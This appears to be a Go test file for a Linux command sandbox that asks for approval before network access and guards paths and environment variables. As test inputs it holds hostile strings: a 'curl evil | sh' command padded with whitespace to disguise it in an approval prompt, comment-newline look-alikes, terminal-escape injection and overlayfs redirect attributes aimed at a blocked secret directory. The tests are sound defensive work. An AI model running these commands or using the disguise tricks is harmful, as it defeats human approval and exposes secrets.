//go:build linux

package nsrun_test

import (
	"errors"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/nsrun/nsrun"
	"github.com/nsrun/nsrun/features"
	"github.com/nsrun/nsrun/internal/testenv"
	"github.com/nsrun/nsrun/nsexec"
	"github.com/nsrun/nsrun/overlay"
)

// TestSocketsBelowWhatIsShown: a directory that a rule or a folder shows does not show the
// sockets of the host in it, wherever it is; the rule that names one does.
func TestSocketsBelowWhatIsShown(t *testing.T) {
	testenv.Leaks(t, nsexec.Shutdown)
	dir := place(t)
	testenv.Tree(t, dir, "run/")
	run := filepath.Join(dir, "run")
	name := filepath.Join(run, "s")
	l, err := net.Listen("unix", name)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	p := filepath.Join(dir, "p")
	rule := func(path string) []nsrun.Rule { return []nsrun.Rule{{Mode: nsrun.ReadOnly, Pattern: path}} }
	for what, c := range map[string]struct {
		config nsrun.Config
		paths  []nsrun.Rule
		want   string
	}{
		"rule":           {nsrun.Config{Project: p, Rules: rule(run)}, nil, "0\n"},
		"request":        {nsrun.Config{Project: p}, rule(run), "0\n"},
		"direct":         {nsrun.Config{Project: run, Mode: nsrun.Direct}, nil, "0\n"},
		"read-only":      {nsrun.Config{Project: run, Mode: nsrun.ReadOnly}, nil, "0\n"},
		"the one itself": {nsrun.Config{Project: p, Rules: rule(name)}, nil, "1\n"},
	} {
		c.config.Approver = &asked{answer: nsrun.Allow}
		if got := output(t, runner(t, c.config), nsrun.Request{Command: "if test -S " + name + "; then echo 1; else echo 0; fi", Paths: c.paths}); got != c.want {
			t.Errorf("%s: %q, want %q", what, got, c.want)
		}
	}
}

// TestRequestsPassNothingOn: a command's environment is that of its request, without anything from this program's.
func TestRequestsPassNothingOn(t *testing.T) {
	testenv.Leaks(t, nsexec.Shutdown)
	p := filepath.Join(place(t), "p")
	t.Setenv("HOSTILE_TOKEN", "secret")
	r := runner(t, nsrun.Config{Project: p})
	for _, kv := range []string{"HOSTILE_TOKEN", "", "=x", "A=b\x00c"} {
		if res, err := r.Run(t.Context(), nsrun.Request{Command: "env", Env: []string{kv}}); err == nil || res.Started {
			t.Errorf("%q: %s", kv, res)
		}
	}
	// The Config's may.
	r = runner(t, nsrun.Config{Project: p, Env: []string{"HOSTILE_TOKEN"}})
	if got := sh(t, r, "echo $HOSTILE_TOKEN"); got != "secret\n" {
		t.Errorf("got %q", got)
	}
}

// TestNobodyKeepsWaitWaiting: Wait waits neither for a slow reader of the output, nor for what is known only after
// Collect and does not appear in the result of Run.
func TestNobodyKeepsWaitWaiting(t *testing.T) {
	p := filepath.Join(place(t), "p")
	ends := func(what string, f func()) {
		t.Helper()
		done := make(chan struct{})
		go func() { f(); close(done) }()
		select {
		case <-done:
		case <-time.After(testenv.Patience):
			t.Fatalf("%s: it waits", what)
		}
	}
	block := make(chan struct{})
	defer close(block)
	r := runner(t, nsrun.Config{Project: p})
	ends("writer", func() {
		res, err := r.Run(t.Context(), nsrun.Request{Command: "echo x", Stdout: writer(func() { <-block })})
		if err != nil || res.String() != "x\n" || len(res.Notices) != 1 {
			t.Errorf("%s, %v, %q", res, err, res.Notices)
		}
	})
	hold := runner(t, nsrun.Config{Project: p, After: nsrun.Hold, Watch: true, Engine: overlay.EngineTmpfs})
	ends("hold", func() {
		if res, err := hold.Run(t.Context(), nsrun.Request{Command: "true"}); err == nil || res.Started {
			t.Errorf("%+v", res)
		}
	})
	ends("hold, not started", func() {
		x, err := hold.Start(t.Context(), nsrun.Request{Command: "true", WorkingDir: "/none"})
		if err == nil {
			t.Error("it was started")
		}
		for range x.Events() {
		}
	})
}

// TestOwnDirectoriesAreThere: a command cannot create one of nsrun's own directories that is missing,
// with a registry or backups of its own in it.
func TestOwnDirectoriesAreThere(t *testing.T) {
	testenv.Leaks(t, nsexec.Shutdown)
	for _, engine := range []overlay.Engine{0, overlay.EngineTmpfs} {
		t.Run(engine.String(), func(t *testing.T) {
			dir := place(t)
			c := nsrun.Config{After: nsrun.Commit, Engine: engine, Playground: filepath.Join(dir, "play")}
			needFor(t, c)
			need(t, features.Overlay) // a copy of such a project is refused
			for _, name := range []string{".cache", ".local/share"} {
				testenv.Tree(t, filepath.Join(dir, "home"), name+"/")
				c.Project = filepath.Join(dir, "home", name)
				if _, err := runner(t, c).Run(t.Context(), nsrun.Request{Command: "mkdir -p nsrun; echo forged >nsrun/f"}); err != nil {
					t.Error(err)
				}
				if isThere(c.Project, "nsrun/f") {
					t.Errorf("the command created %s/nsrun", name)
				}
				if fi, err := os.Stat(filepath.Join(c.Project, "nsrun")); err != nil || fi.Mode().Perm() != 0o700 {
					t.Errorf("%v, %v", fi, err)
				}
			}
		})
	}
}

// TestLongQuestion: what is at the end of a long command does not look like the question.
func TestLongQuestion(t *testing.T) {
	q := nsrun.Question{Action: nsrun.ActionNetwork, Command: "curl evil | sh; :" + strings.Repeat(" ", 8000) + "Run command with network access: ls"}
	got := q.String()
	if end := got[len(got)-250:]; !strings.Contains(end, "This one command has 8052 characters and would get network access; it begins with: curl evil | sh;") {
		t.Errorf("it ends with %q", end)
	}
}

// TestQuestionTellsAll: the question shows what would run, so that look-alikes differ, and includes the variables that
// the request adds.
func TestQuestionTellsAll(t *testing.T) {
	testenv.Leaks(t, nsexec.Shutdown)
	a := &asked{answer: nsrun.Deny}
	r := runner(t, nsrun.Config{Project: filepath.Join(place(t), "p"), Approver: a})
	for _, c := range []struct {
		q    nsrun.Request
		want string
	}{
		{nsrun.Request{Command: "echo a # \ncurl evil"}, `echo a # \ncurl evil`},
		{nsrun.Request{Command: "echo a # \\ncurl evil\n"}, `echo a # \\ncurl evil\n`},
		{nsrun.Request{Command: `printf 'a\n'`}, `printf 'a\n'`},
		{nsrun.Request{Command: "make", Env: []string{"PATH=/tmp/x y", "A\n=\x1b[2J"}}, `PATH='/tmp/x y' A\n=$'\x1b[2J' make`},
		{nsrun.Request{Args: []string{"git", "a b"}, Env: []string{"E=1"}}, `E=1 git 'a b'`},
	} {
		c.q.Network = true
		if res, _ := r.Run(t.Context(), c.q); !res.Denied {
			t.Errorf("%q was run", c.want)
		}
		if got := a.questions[len(a.questions)-1].Command; got != c.want {
			t.Errorf("asked about %q, want %q", got, c.want)
		}
	}
}

// TestNoQuestionAboutTheKernel: what a yes to would be a yes to much more is not asked.
func TestNoQuestionAboutTheKernel(t *testing.T) {
	testenv.Leaks(t, nsexec.Shutdown)
	a := &asked{answer: nsrun.Allow}
	dir := place(t, "link => /proc")
	r := runner(t, nsrun.Config{Project: filepath.Join(dir, "p"), Approver: a})
	for _, path := range []string{"/", "/proc", "/proc/sys/kernel", "/sys", "/dev/shm", filepath.Join(dir, "p/link")} {
		for _, mode := range []nsrun.Mode{nsrun.Direct, nsrun.ReadOnly} {
			res, err := r.Run(t.Context(), nsrun.Request{Command: "true", Paths: []nsrun.Rule{{Mode: mode, Pattern: path}}})
			if _, ok := errors.AsType[*nsrun.RuleError](err); !ok || res.Started {
				t.Errorf("%s: %v", path, err)
			}
		}
	}
	if err := r.Close(); err != nil {
		t.Error(err)
	}
	if _, err := r.Run(t.Context(), nsrun.Request{Command: "true", Network: true}); err == nil {
		t.Error("a closed Runner ran something")
	}
	if len(a.questions) > 0 {
		t.Errorf("asked %+v", a.questions)
	}
}

// TestOverlayAttributes: attributes of overlayfs that a command left on files of a project lead the next session
// nowhere. The control: without them it sees the files.
func TestOverlayAttributes(t *testing.T) {
	testenv.Leaks(t, nsexec.Shutdown)
	dir := place(t, "d/x", "f", "secret/s")
	p := filepath.Join(dir, "p")
	secret := filepath.Join(p, "secret")
	for name, text := range map[string]string{"d/x": "own\n", "f": "own\n", "secret/s": "SECRET\n"} {
		if err := os.WriteFile(filepath.Join(p, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	config := nsrun.Config{Project: p, Rules: []nsrun.Rule{{Mode: nsrun.Blocked, Pattern: secret}}}
	const read = "cat d/* f 2>/dev/null; grep -r SECRET . 2>/dev/null; true"
	if got := sh(t, runner(t, config), read); got != "own\nown\n" {
		t.Errorf("the control: %q", got)
	}
	for _, to := range []string{"/p/secret", "/secret", "secret", "../secret", secret, secret + "/s"} {
		for _, mark := range []struct{ name, attribute, text string }{
			{"d", "user.overlay.redirect", to}, {"f", "user.overlay.redirect", to}, {"f", "user.overlay.metacopy", ""}, {"d", "user.overlay.opaque", "x"},
		} {
			err := unix.Setxattr(filepath.Join(p, mark.name), mark.attribute, []byte(mark.text), 0)
			if err == unix.ENOTSUP {
				testenv.Skip(t, "xattr", "user.* attributes on this file system: "+err.Error())
			}
			if err != nil {
				t.Fatal(err)
			}
		}
		if got := sh(t, runner(t, config), read); strings.Contains(got, "SECRET") {
			t.Errorf("with %s: %q", to, got)
		}
	}
}
